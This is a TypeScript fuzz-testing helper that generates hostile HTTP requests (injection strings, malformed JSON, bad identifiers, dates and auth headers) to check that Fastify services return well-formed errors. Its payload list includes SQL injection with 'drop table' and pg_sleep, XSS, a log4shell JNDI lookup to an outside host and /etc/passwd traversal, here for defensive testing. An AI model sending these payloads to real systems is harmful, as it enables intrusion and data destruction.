import { appendFileSync } from 'node:fs';
import {
  computeResidentIdCheckCharacter,
  makeResidentId,
  makeUscc,
  USCC_CHARSET,
  validateResidentId,
} from '@credit/identifiers';
import fc from 'fast-check';
import { expect } from 'vitest';

/**
 * Hostile HTTP input for property-based fuzzing of the services' APIs with fastify's inject(): strings, identifiers,
 * dates, numbers, JSON bodies, query strings, path segments and headers a careless or malicious client sends, and
 * the one rule every answer keeps: a well-formed 4xx `{error: {code, message}}` (or a 2xx where the input happens to
 * be valid), never a 5xx, never a hang.
 *
 * Resident identity numbers generated here are invalid (wrong check character, impossible birth date, wrong length),
 * so nothing of this module can put a real-looking number in a log or a topic.
 */

const INJECTIONS = [
  "' or '1'='1",
  "'; drop table subjects; --",
  '" or 1=1 --',
  "1' union select null, current_user --",
  '$$; select pg_sleep(30); $$',
  "'); select pg_sleep(30); --",
  '\\',
  '%',
  '_',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell lookup, sent as it is
  '${jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\r\nX-Injected: 1',
  '\uFEFF',
  '\u202Eevil\u202C',
  '\u200B\u200C\u200D',
  '\uD800',
  '\uDFFF\uD800',
  '🏳️‍🌈👨‍👩‍👧‍👦',
  'null',
  'undefined',
  'NaN',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  ' ',
  '',
] as const;

/** Full-width forms of ASCII (ＡＢＣ１２３), as input methods produce them. */
const fullWidthChar = fc.integer({ min: 0xff01, max: 0xff5e }).map((code) => String.fromCodePoint(code));
const cjkChar = fc.integer({ min: 0x4e00, max: 0x9fff }).map((code) => String.fromCodePoint(code));
const controlChar = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCodePoint(code));
const CJK_PUNCTUATION = ['（', '）', '《', '》', '〔', '〕', '、', '。', '，', '：', '　', '·', '—', '～'];

/** Mixed CJK, full-width and ASCII text, as department systems and people type names. */
export const mixedCjkText: fc.Arbitrary<string> = fc.string({
  unit: fc.oneof(cjkChar, fullWidthChar, fc.constantFrom(...CJK_PUNCTUATION), fc.string({ maxLength: 1 })),
  maxLength: 40,
});

/** Long strings, past every documented limit: a name of 10,000 characters, a code of 70 kB. */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 65, max: 70_000 }), fc.constantFrom('A', '信', '9', '\u0000', '%', "'"))
  .map(([length, unit]) => unit.repeat(length));

/** Any string a hostile client sends: injection payloads, control characters, full-width, CJK, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: mixedCjkText },
  { weight: 1, arbitrary: fc.string({ unit: fullWidthChar, minLength: 1, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }) },
  { weight: 1, arbitrary: hugeString },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...INJECTIONS), mixedCjkText)
      .map(([payload, text]) => `${text}${payload}`),
  },
);

const usccChar = fc.constantFrom(...USCC_CHARSET);
const usccParts = fc.record({
  authority: fc.constantFrom('1', '5', '9', 'Y'),
  entityType: fc.constantFrom('1', '2', '3', '9'),
  division: fc.constantFrom('350100', '350102', '110101', '440300', '000000', '999999'),
  organisationBody: fc.string({ unit: usccChar, minLength: 8, maxLength: 8 }),
});

/** A well-formed unified social credit code (GB 32100), both check characters right. */
export const validUscc: fc.Arbitrary<string> = usccParts.map(makeUscc);

/** A full-width character's ASCII form and back: `toFullWidth('9135')` is `９１３５`. */
export function toFullWidth(text: string): string {
  return text.replace(/[!-~]/g, (c) => String.fromCodePoint(c.codePointAt(0)! + 0xfee0));
}

/**
 * Unified social credit codes that are not: a wrong check character, 17 or 19 characters, letters outside the
 * charset (I, O, S, V, Z), lower case, spaces and full-width forms of a wrong code.
 */
export const badUscc: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(validUscc, usccChar).map(([code, wrong]) => {
    const check = code.at(-1) === wrong ? USCC_CHARSET[(USCC_CHARSET.indexOf(wrong) + 1) % 31]! : wrong;
    return `${code.slice(0, 17)}${check}`;
  }),
  validUscc.map((code) => code.slice(0, 17)),
  fc.tuple(validUscc, usccChar).map(([code, extra]) => `${code}${extra}`),
  fc
    .tuple(validUscc, fc.integer({ min: 0, max: 17 }), fc.constantFrom('I', 'O', 'S', 'V', 'Z', '*', '中'))
    .map(([code, at, letter]) => `${code.slice(0, at)}${letter}${code.slice(at + 1)}`),
  validUscc.map((code) => ` ${code.slice(0, 9)} ${code.slice(9, 17)}X `),
  validUscc.map((code) => toFullWidth(`${code.slice(0, 17)}${code.at(-1) === '0' ? '1' : '0'}`)),
);

/** Valid codes written the way people write them: lower case, full width, padded with spaces. */
export const borderlineUscc: fc.Arbitrary<string> = fc.oneof(
  validUscc.map((code) => code.toLowerCase()),
  validUscc.map(toFullWidth),
  validUscc.map((code) => `  ${code}\t`),
);

const birthDate = fc.date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2020-12-31T00:00:00Z') });
const residentIdParts = fc.record({
  division: fc.constantFrom('350102', '110101', '440305'),
  birthDate: birthDate.map((date) =>
    Number.isNaN(date.getTime()) ? '1980-01-01' : date.toISOString().slice(0, 10),
  ),
  sequence: fc.integer({ min: 1, max: 999 }),
});

/** A number with a wrong check character: never a valid one, so never one the privacy scan must find. */
const wrongCheck = fc.tuple(residentIdParts, fc.integer({ min: 1, max: 10 })).map(([parts, shift]) => {
  const number = makeResidentId(parts);
  const alphabet = '0123456789X';
  const wrong = alphabet[(alphabet.indexOf(number.at(-1)!) + shift) % 11]!;
  return `${number.slice(0, 17)}${wrong}`;
});

/**
 * Resident identity numbers (GB 11643) that are not valid: a wrong check character, an impossible birth date
 * (19990230, 20261301, 00000000), 17 or 19 characters, a lower-case x where the check character is not X.
 */
export const badResidentId: fc.Arbitrary<string> = fc
  .oneof(
    wrongCheck,
    fc
      .tuple(
        fc.constantFrom('350102', '110101'),
        fc.constantFrom('19990230', '20261301', '00000000', '19000000', '21000101', '20250229'),
        fc.integer({ min: 100, max: 999 }),
      )
      .map(([division, date, sequence]) => {
        const first17 = `${division}${date}${sequence}`;
        return `${first17}${computeResidentIdCheckCharacter(first17)}`;
      }),
    residentIdParts.map((parts) => makeResidentId(parts).slice(0, 17)),
    wrongCheck.map((number) => `${number}0`),
    wrongCheck.map((number) => `${number.slice(0, 17)}x`),
  )
  .filter((number) => !validateResidentId(number).valid);

/** Dates that are out of range or not dates: 0000-00-00, 9999-12-31, 2026-02-30, 2025-02-29, 2026-13-01... */
export const badDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0000-00-00',
    '0000-01-01',
    '0001-01-01',
    '9999-12-31',
    '2026-02-30',
    '2025-02-29',
    '2026-13-01',
    '2026-00-10',
    '2026-04-31',
    '1949-09-30',
    '1900-01-01',
    '2026-1-1',
    '20260101',
    '2026/01/01',
    '2026-01-01T00:00:00Z',
    '+275760-09-13',
    '-0001-01-01',
    '２０２６-０１-０１',
    '2026-01-01\u0000',
  ),
  fc
    .tuple(
      fc.integer({ min: 0, max: 9999 }),
      fc.integer({ min: 0, max: 99 }),
      fc.integer({ min: 0, max: 99 }),
    )
    .map(
      ([y, m, d]) =>
        `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`,
    ),
);

/** Timestamps with an offset whose date or time does not exist. */
export const badTimestamp: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '2026-02-30T00:00:00+08:00',
    '0000-01-01T00:00:00Z',
    '9999-12-31T23:59:59+14:00',
    '2026-01-01T24:00:00Z',
    '2026-01-01T23:60:00Z',
    '2026-01-01T00:00:00+99:00',
    '2026-01-01T00:00:00',
  ),
  badDate.map((date) => `${date}T00:00:00Z`),
);

/** Numbers for page sizes, limits and pages, as query-string text: negative, zero, huge, fractional, not numbers. */
export const hostileNumberText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '-1',
    '0',
    '1.5',
    '1e3',
    '1e309',
    '99999999999999999999999',
    '9007199254740993',
    '2147483648',
    'NaN',
    'Infinity',
    '0x10',
    '１０',
    '٣',
    '',
    ' 5',
    '5 ',
    '+5',
    '05',
  ),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 }).map(String),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
);

/** Values of the wrong type for a field that wants a string, or a string for one that wants anything else. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  // Fresh ones each time: mutated() adds keys to the objects it is given.
  fc.constant(null).map(() => []),
  fc.constant(null).map(() => ({})),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  hostileString,
);

/** JSON text nested thousands deep, as raw text (JSON.stringify of such a value would be the same). */
export const deeplyNestedJson: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array', 'object', 'mixed'))
  .map(([depth, shape]) => {
    if (shape === 'array') return `${'['.repeat(depth)}1${']'.repeat(depth)}`;
    if (shape === 'object') return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    return `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;
  });

const MALFORMED_JSON = [
  '',
  ' ',
  '{',
  '}',
  '{"a":',
  '[1,2',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  'nul',
  'NaN',
  'undefined',
  '1e99999',
  '"unterminated',
  '{"a":"\\u00"}',
  '{"a":"\\x41"}',
  '\uFEFF{}',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '\u0000',
] as const;

/** Text that is not JSON, or JSON a careless parser gets wrong. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...MALFORMED_JSON),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc
    .json({ maxDepth: 3 })
    .chain((text) =>
      text.length < 2
        ? fc.constant(`${text}{`)
        : fc.nat({ max: text.length - 2 }).map((n) => text.slice(0, n + 1)),
    ),
);

/** Any JSON value (wrong shapes, wrong types, prototype keys), small enough to send often. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'a'), wrongType, {
    maxKeys: 3,
  }),
  wrongType,
);

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function pathsOf(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  const here = [path];
  if (Array.isArray(value)) return [...here, ...value.flatMap((item, i) => pathsOf(item, [...path, i]))];
  if (value !== null && typeof value === 'object') {
    return [...here, ...Object.entries(value).flatMap(([key, item]) => pathsOf(item, [...path, key]))];
  }
  return here;
}

/** Characters that break a value that was right: NUL (PostgreSQL text cannot hold it), quotes, a lone surrogate. */
const POISON = ['\u0000', "'", '"', '\\', '%', '_', '\uD800', '\u202E', '\n', '　', '；'] as const;

/** `valid` with the value at `path` made `edit(value)` (removed when that is REMOVE); a deep copy. */
function replaceAt(valid: unknown, path: (string | number)[], edit: (value: unknown) => unknown): unknown {
  const copy = JSON.parse(JSON.stringify(valid)) as Json;
  if (path.length === 0) {
    const replacement = edit(copy);
    return replacement === REMOVE ? undefined : replacement;
  }
  let parent: Json = copy;
  for (const step of path.slice(0, -1)) parent = (parent as Record<string | number, Json>)[step]!;
  const last = path.at(-1)!;
  const container = parent as Record<string | number, unknown>;
  const replacement = edit(container[last]);
  if (replacement === REMOVE) {
    if (Array.isArray(container)) container.splice(Number(last), 1);
    else delete container[last];
  } else {
    container[last] = replacement;
  }
  return copy;
}

const REMOVE = Symbol('remove');

/**
 * A valid request body with one to three of its values replaced by hostile ones (wrong types, injections, huge
 * strings, bad identifiers and dates), poisoned (a NUL or a quote put into a valid string), removed, or extra keys
 * added: the inputs closest to the valid ones.
 */
export function mutated(valid: unknown, ...extra: fc.Arbitrary<unknown>[]): fc.Arbitrary<unknown> {
  const paths = pathsOf(valid);
  const replaced = fc
    .oneof(
      wrongType,
      hostileString,
      badUscc,
      badResidentId,
      badDate,
      hostileNumberText,
      fc.constant(REMOVE),
      ...extra,
    )
    .map((value) => () => value);
  const poison = fc.tuple(fc.nat(), fc.constantFrom(...POISON)).map(([at, char]) => (value: unknown) => {
    if (typeof value !== 'string') return value;
    const i = at % (value.length + 1);
    return `${value.slice(0, i)}${char}${value.slice(i)}`;
  });
  const replacement = fc.oneof({ weight: 4, arbitrary: replaced }, { weight: 1, arbitrary: poison });
  const edit = fc.tuple(fc.constantFrom(...paths), replacement);
  const extraKey = fc.tuple(fc.constantFrom('__proto__', 'unexpected', 'constructor', '名称'), wrongType);
  return fc
    .tuple(fc.array(edit, { minLength: 1, maxLength: 3 }), fc.option(extraKey, { nil: undefined }))
    .map(([edits, key]) => {
      let value: unknown = valid;
      for (const [path, next] of edits) {
        // A path removed by an earlier edit is left alone.
        try {
          value = replaceAt(value, path, next);
        } catch {
          // the path no longer exists in the edited value
        }
      }
      if (key && value !== null && typeof value === 'object' && !Array.isArray(value)) {
        value = JSON.parse(JSON.stringify(value)) as object;
        // defineProperty, so that '__proto__' becomes an own key as JSON.parse would make it.
        Object.defineProperty(value, key[0], {
          value: key[1],
          enumerable: true,
          configurable: true,
          writable: true,
        });
      }
      return value;
    });
}

/** Content types a client gets wrong. */
export const hostileContentType: fc.Arbitrary<string | undefined> = fc.constantFrom(
  undefined,
  '',
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/octet-stream',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/jsonx',
  'application/json, text/plain',
  'APPLICATION/JSON',
  'application/json; boundary=',
  '*/*',
  ';;;',
  'application/\u0000json',
);

/** Authorization headers that must not authenticate (undefined: none sent). */
export const hostileAuthorization: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constantFrom(
    undefined,
    '',
    'Bearer',
    'Bearer ',
    'Bearer  ',
    'bearer',
    'Basic dXNlcjpwYXNzd29yZA==',
    'Token abc',
    'Bearer null',
    'Bearer undefined',
    `Bearer ${'x'.repeat(10_000)}`,
    'Bearer \u0000',
    'Bearer cdx_aaaaaaaaaaaaaaaa_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    'Bearer cdx_',
    'Bearer a b c',
  ),
  hostileString.map((text) => `Bearer ${text}`),
  hostileString,
);

/** Tokens close to a valid one: its case changed, truncated, padded, another scheme. */
export function nearTokens(token: string): fc.Arbitrary<string> {
  return fc.constantFrom(
    `Bearer ${token.toUpperCase()}`,
    `Bearer ${token.slice(0, -1)}`,
    `Bearer ${token}x`,
    `Bearer ${token} ${token}`,
    `Basic ${token}`,
    token,
    `Bearer ${toFullWidth(token)}`,
  );
}

/** A path segment that is not a sensible identifier: hostile text, percent-encoded, or raw malformed escapes. */
export const hostilePathSegment: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.oneof(hostileString, badUscc, badResidentId, borderlineUscc).map(encodeAny),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '%',
      '%zz',
      '%E4%B8',
      '%C0%AF',
      '%FF',
      '%00',
      '..',
      '.',
      '%2e%2e',
      '%2F',
      ';',
      '*',
      '~',
      '%20',
      'a%0Ab',
    ),
  },
);

/**
 * Percent-encodes any string, a lone surrogate too (encodeURIComponent throws on one): as the bytes WTF-8 would give
 * it, which are not UTF-8, so the server decodes malformed text.
 */
export function encodeAny(text: string): string {
  return text.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]|[\s\S]/g, (unit) => {
    const code = unit.charCodeAt(0);
    if (unit.length === 1 && code >= 0xd800 && code <= 0xdfff) {
      return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((byte) => `%${byte.toString(16).toUpperCase()}`)
        .join('');
    }
    return encodeURIComponent(unit);
  });
}

/** A valid value with a poisonous character put in, or its characters made full-width. */
export function poisoned(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    fc.tuple(valid, fc.nat(), fc.constantFrom(...POISON)).map(([value, at, poison]) => {
      const i = value.length === 0 ? 0 : at % (value.length + 1);
      return `${value.slice(0, i)}${poison}${value.slice(i)}`;
    }),
    valid.map(toFullWidth),
  );
}

/** One query-string value: valid-ish text, a hostile string, a bad date or number, or a raw malformed escape. */
export function hostileQueryValue(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: valid.map(encodeAny) },
    { weight: 2, arbitrary: poisoned(valid).map(encodeAny) },
    {
      weight: 4,
      arbitrary: fc
        .oneof(hostileString, badDate, badTimestamp, hostileNumberText, badUscc, badResidentId)
        .map(encodeAny),
    },
    { weight: 1, arbitrary: fc.constantFrom('%', '%zz', '%E4%B8', '%FF', '%00', '+', '%2B', '&', '=', '[]') },
  );
}

/**
 * A raw query string for `params` (each with its valid-ish values): some of them, each possibly hostile, sometimes
 * repeated, sometimes an unknown one, sometimes nonsense that is not key=value at all.
 */
export function hostileQuery(params: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<string> {
  const names = Object.keys(params);
  const pair = names.length
    ? fc
        .constantFrom(...names)
        .chain((name) => hostileQueryValue(params[name]!).map((value) => `${encodeAny(name)}=${value}`))
    : fc.constant('');
  return fc.oneof(
    {
      weight: 6,
      arbitrary: fc.array(pair, { maxLength: 4 }).map((pairs) => pairs.filter(Boolean).join('&')),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.array(pair, { maxLength: 2 }),
          fc.constantFrom('unknown', '__proto__', 'constructor', 'q[]', '名'),
        )
        .map(([pairs, name]) => [...pairs, `${encodeAny(name)}=1`].filter(Boolean).join('&')),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom('&&&', '=', '==1', '?', '%', 'a=%', 'a', '&a=1&&', 'a=1;b=2', '#x'),
    },
  );
}

export type HttpMethod = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'HEAD' | 'OPTIONS';

/** One route of a service, with what a valid request to it looks like. */
export interface RouteSpec {
  method: HttpMethod;
  /** Fastify's route path, e.g. `/v1/orders/:id/feedback`. */
  path: string;
  /** Valid-ish values of each path parameter. */
  params?: Record<string, fc.Arbitrary<string>>;
  /** Valid-ish values of each query parameter. */
  query?: Record<string, fc.Arbitrary<string>>;
  /** Valid bodies, mutated and replaced by hostile ones. */
  body?: fc.Arbitrary<unknown>;
  /** Authorization headers that authenticate (mixed with hostile and near-miss ones). */
  authorizations?: readonly string[];
  /** Other headers a valid request sends (e.g. x-credit-purpose). */
  headers?: fc.Arbitrary<Record<string, string>>;
}

export interface HostileRequest {
  method: HttpMethod;
  url: string;
  headers: Record<string, string>;
  payload?: string;
}

type Body = { payload?: string; contentType?: string };

/** The valid headers of a route: one of its credentials (when it has any) and its other headers. */
function validHeaders(route: RouteSpec): fc.Arbitrary<Record<string, string>> {
  const credentials = route.authorizations ?? [];
  const authorization = credentials.length ? fc.constantFrom(...credentials) : fc.constant(undefined);
  return fc.tuple(authorization, route.headers ?? fc.constant({})).map(([auth, more]) => ({
    ...more,
    ...(auth === undefined ? {} : { authorization: auth }),
  }));
}

/** Headers with the credential hostile or nearly right, and the other headers' values hostile or left out. */
function hostileHeaders(route: RouteSpec): fc.Arbitrary<Record<string, string>> {
  const credentials = route.authorizations ?? [];
  const authorization = credentials.length
    ? fc.oneof(
        { weight: 2, arbitrary: hostileAuthorization },
        { weight: 1, arbitrary: fc.constantFrom(...credentials).chain(nearTokens) },
        { weight: 2, arbitrary: fc.constantFrom(...credentials) },
      )
    : hostileAuthorization;
  const value = fc.oneof(
    fc.constant(undefined),
    hostileString.map(encodeAny),
    fc.constantFrom('%', '%E4%B8', '%00%00%00%00', 'ab'),
  );
  return fc
    .tuple(
      authorization,
      route.headers ?? fc.constant({}),
      fc.array(fc.tuple(fc.nat(), value), { maxLength: 2 }),
    )
    .map(([auth, valid, edits]) => {
      const headers: Record<string, string> = { ...valid };
      const names = Object.keys(headers);
      for (const [at, replacement] of edits) {
        if (names.length === 0) break;
        const name = names[at % names.length]!;
        if (replacement === undefined) delete headers[name];
        else headers[name] = replacement;
      }
      return { ...headers, ...(auth === undefined ? {} : { authorization: auth }) };
    });
}

function validBody(route: RouteSpec): fc.Arbitrary<Body> {
  return (route.body ?? fc.constant({})).map((value) => ({
    payload: JSON.stringify(value),
    contentType: 'application/json',
  }));
}

function hostileBody(route: RouteSpec): fc.Arbitrary<Body> {
  const valid = route.body ?? fc.constant({});
  const json = fc.oneof(
    { weight: 4, arbitrary: valid.chain((body) => mutated(body)) },
    { weight: 2, arbitrary: hostileJsonValue },
  );
  const jsonText = json.map((value) => (value === undefined ? undefined : JSON.stringify(value)));
  return fc.oneof(
    { weight: 8, arbitrary: jsonText.map((payload) => ({ payload, contentType: 'application/json' })) },
    { weight: 2, arbitrary: malformedJson.map((payload) => ({ payload, contentType: 'application/json' })) },
    {
      weight: 1,
      arbitrary: deeplyNestedJson.map((payload) => ({ payload, contentType: 'application/json' })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.oneof(
            jsonText,
            malformedJson,
            validBody(route).map((body) => body.payload),
          ),
          hostileContentType,
        )
        .map(([payload, contentType]) => ({ payload, contentType })),
    },
    { weight: 1, arbitrary: fc.constant({}) },
  );
}

/** What a request gets wrong: one part of it (the others valid), all of it, or nothing. */
type Focus = 'path' | 'query' | 'body' | 'headers' | 'method' | 'everything' | 'nothing';

/**
 * Hostile requests to one route. Most get one part wrong (a path parameter, the query, the body, the headers, the
 * method) and the rest right, so they reach the code behind validation and authentication; some get everything
 * wrong; some are valid requests (the answer must then be well-formed too).
 */
export function hostileRequests(route: RouteSpec): fc.Arbitrary<HostileRequest> {
  // Parameters are whole segments (`/:id`); a colon inside one (`/v1/records:batch`) is part of the path.
  const names = [...route.path.matchAll(/\/:(\w+)/g)].map((match) => match[1]!);
  const validSegment = (name: string) =>
    (route.params?.[name] ?? fc.string({ minLength: 1, maxLength: 10 })).map(encodeAny);
  const pathOf = (hostile: boolean) =>
    fc
      .tuple(
        ...names.map((name) =>
          hostile
            ? fc.oneof(
                validSegment(name),
                poisoned(route.params?.[name] ?? fc.string({ maxLength: 10 })).map(encodeAny),
                hostilePathSegment,
              )
            : validSegment(name),
        ),
      )
      .map((values) =>
        names.reduce((url, name, i) => url.replace(`/:${name}`, `/${values[i]!}`), route.path),
      );
  const params = route.query ?? {};
  const validQuery = fc
    .subarray(Object.keys(params))
    .chain((chosen) =>
      fc
        .tuple(
          ...chosen.map((name) => params[name]!.map((value) => `${encodeAny(name)}=${encodeAny(value)}`)),
        )
        .map((pairs) => pairs.join('&')),
    );
  const hasBody = route.method !== 'GET' && route.method !== 'HEAD';
  const weighted: [Focus, number][] = [
    ['path', names.length ? 3 : 0],
    ['query', Object.keys(params).length ? 3 : 1],
    ['body', hasBody ? 3 : 0],
    ['headers', 2],
    ['method', 1],
    ['everything', 1],
    ['nothing', 2],
  ];
  const focus = fc.oneof(
    ...weighted
      .filter(([, weight]) => weight > 0)
      .map(([name, weight]) => ({ weight, arbitrary: fc.constant(name) })),
  );
  return focus.chain((wrong) => {
    const all = wrong === 'everything';
    const method =
      wrong === 'method' || all
        ? fc.constantFrom<HttpMethod>('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS')
        : fc.constant(route.method);
    const body = !hasBody
      ? fc.constant<Body>({})
      : wrong === 'body' || all
        ? hostileBody(route)
        : validBody(route);
    return fc
      .tuple(
        method,
        pathOf(wrong === 'path' || all),
        wrong === 'query' || all ? hostileQuery(params) : validQuery,
        wrong === 'headers' || all ? hostileHeaders(route) : validHeaders(route),
        body,
      )
      .map(([verb, url, search, headers, sent]) => ({
        method: verb,
        url: search ? `${url}?${search}` : url,
        headers: {
          ...headers,
          ...(sent.contentType === undefined ? {} : { 'content-type': sent.contentType }),
        },
        ...(sent.payload === undefined || verb === 'GET' || verb === 'HEAD' ? {} : { payload: sent.payload }),
      }));
  });
}

/** Hostile requests to any of `routes`, plus paths no route has. */
export function hostileRequestsTo(routes: readonly RouteSpec[]): fc.Arbitrary<HostileRequest> {
  const unknown = fc
    .tuple(
      fc.constantFrom(
        '/',
        '/v1',
        '/v1/',
        '/v2/anything',
        '//v1//x',
        '/%2e%2e/%2e%2e/etc/passwd',
        '/v1/%',
        '/\u0000',
      ),
      fc.constantFrom<HttpMethod>('GET', 'POST', 'DELETE'),
    )
    .map(([url, method]) => ({ method, url, headers: {} }));
  return fc.oneof(
    { weight: 20, arbitrary: fc.oneof(...routes.map(hostileRequests)) },
    { weight: 1, arbitrary: unknown },
  );
}

/** What a service answered, and how long it took. */
export interface HttpAnswer {
  status: number;
  contentType: string;
  text: string;
  /** The body parsed as JSON, when it is JSON. */
  json: unknown;
  ms: number;
}

/** The part of fastify's instance used here (inject with the options our requests have). */
export interface Injectable {
  inject(options: {
    method: HttpMethod;
    url: string;
    headers: Record<string, string>;
    payload?: string;
  }): PromiseLike<{ statusCode: number; headers: Record<string, unknown>; body: string }>;
}

/** Sends `request` with inject(); throws when the service does not answer within `timeoutMs` (a hang). */
export async function ask(app: Injectable, request: HostileRequest, timeoutMs = 15_000): Promise<HttpAnswer> {
  // FUZZ_TRACE=<file>: every request written down before it is sent, to find one that blocks the event loop (the
  // timeout below cannot fire then).
  if (process.env.FUZZ_TRACE) appendFileSync(process.env.FUZZ_TRACE, `${JSON.stringify(request)}\n`);
  const started = performance.now();
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_resolve, reject) => {
    timer = setTimeout(
      () => reject(new Error(`no answer within ${timeoutMs} ms to ${describeRequest(request)}`)),
      timeoutMs,
    );
  });
  try {
    const response = await Promise.race([app.inject(request), hang]);
    const contentType = String(response.headers['content-type'] ?? '');
    let json: unknown;
    if (contentType.includes('json')) {
      try {
        json = JSON.parse(response.body);
      } catch {
        json = undefined;
      }
    }
    return {
      status: response.statusCode,
      contentType,
      text: response.body,
      json,
      ms: performance.now() - started,
    };
  } finally {
    clearTimeout(timer);
  }
}

/** A request, short enough for an assertion message (long values cut). */
export function describeRequest(request: HostileRequest): string {
  const cut = (text: string) => (text.length > 300 ? `${text.slice(0, 300)}… (${text.length} chars)` : text);
  return `${request.method} ${cut(request.url)} headers=${cut(JSON.stringify(request.headers))}${
    request.payload === undefined ? '' : ` body=${cut(JSON.stringify(request.payload))}`
  }`;
}

export interface AnswerRules {
  /** 5xx answers a route may give for reasons other than input (e.g. OPS_LAG_NOT_SAMPLED), by error code. */
  allowedServerErrors?: readonly string[];
  /**
   * Another error body the service documents for some answers (the gateway's per-record result with its
   * rejections); `{error: {code, message}}` is always accepted.
   */
  documentedError?: (json: unknown) => boolean;
}

/**
 * The contract for any input: never a 5xx; a 4xx is JSON `{error: {code, message}}` with a stable upper-case code and
 * a message; a JSON success body parses. (Redirects and non-JSON successes, like /metrics or a CSV, pass as they are.)
 */
export function expectWellFormed(answer: HttpAnswer, request: HostileRequest, rules: AnswerRules = {}): void {
  const where = `${describeRequest(request)} → ${answer.status} ${answer.text.slice(0, 400)}`;
  if (answer.status >= 500) {
    const code = (answer.json as { error?: { code?: unknown } } | undefined)?.error?.code;
    expect(
      typeof code === 'string' && (rules.allowedServerErrors ?? []).includes(code),
      `a 5xx for hostile input: ${where}`,
    ).toBe(true);
  }
  // A HEAD answer has no body to check.
  if (answer.status >= 400 && request.method !== 'HEAD') {
    expect(answer.contentType, `an error that is not JSON: ${where}`).toMatch(/^application\/json/);
    if (rules.documentedError?.(answer.json)) return;
    expect(isCodedErrorBody(answer.json), `not {error: {code, message}}: ${where}`).toBe(true);
  } else if (answer.contentType.includes('json') && request.method !== 'HEAD') {
    expect(answer.json, `a success that is not JSON: ${where}`).not.toBeUndefined();
  }
}

/** `{error: {code, message}}` with an upper-case code and a message. */
export function isCodedErrorBody(json: unknown): boolean {
  const error = (json as { error?: { code?: unknown; message?: unknown } } | undefined)?.error;
  return (
    typeof error?.code === 'string' &&
    /^[A-Z][A-Z0-9_]*$/.test(error.code) &&
    typeof error.message === 'string' &&
    error.message.length > 0
  );
}

/** Runs for fuzz properties: FUZZ_RUNS multiplies them (e.g. FUZZ_RUNS=10 for a long local hunt). */
export function fuzzRuns(base: number): number {
  const factor = Number(process.env.FUZZ_RUNS ?? '1');
  return Math.max(1, Math.round(base * (Number.isFinite(factor) && factor > 0 ? factor : 1)));
}
